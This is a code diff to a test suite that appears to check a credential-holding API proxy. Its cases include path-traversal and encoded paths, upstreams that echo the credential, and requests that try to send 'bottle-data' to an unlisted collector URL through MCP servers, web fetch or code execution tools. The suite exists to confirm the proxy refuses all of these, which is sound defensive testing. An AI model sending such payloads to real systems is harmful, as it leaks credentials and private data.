@@ -410,10 +410,23 @@ def attacks(targets: dict[str, Any]) -> list[Attack]:
     for method, path in (("GET", "/v1/files"), ("POST", "/api/oauth/claude_cli/create_api_key"),
                          ("GET", "/v1/models/../../api/oauth/profile"), ("GET", "/v1/%6d%65ssages")):
         via_api(f"{method} {path} (outside the policy)", method, path)
-    for mode in ("echo", "echo-header", "echo-split"):
+    for mode in ("echo", "echo-header", "echo-split", "echo-reason"):
         via_api(f"an upstream reflecting the credential ({mode})", "POST", "/v1/messages",
                 {"model": "stub", "max_tokens": 1, "messages": [], "stub": {"mode": mode}},
                 expected="the credential never comes back")
+    hi = {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}
+    collector = f"https://{unlisted}/collect"
+    for attack, extra_fields in (
+        # Each name ends with the field or tool type that must never reach the upstream (verify checks).
+        ("the provider connects out for the bottle: mcp_servers",
+         {"mcp_servers": [{"type": "url", "url": collector, "name": "c", "authorization_token": "bottle-data"}]}),
+        ("the provider fetches a URL for the bottle: web_fetch_20250910",
+         {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
+          "messages": [{"role": "user", "content": f"fetch {collector}?data=bottle-data"}]}),
+        ("the provider runs code for the bottle: code_execution_20250825",
+         {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
+    ):
+        via_api(attack, "POST", "/v1/messages", {**hi, **extra_fields}, expected="refused before the upstream")
     via_api("an attacker's key sent on the API route", "POST", "/v1/messages",
             {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]},
             f"x-api-key: {key}\r\nAuthorization: Bearer {key}\r\n", expected="stripped before the upstream")
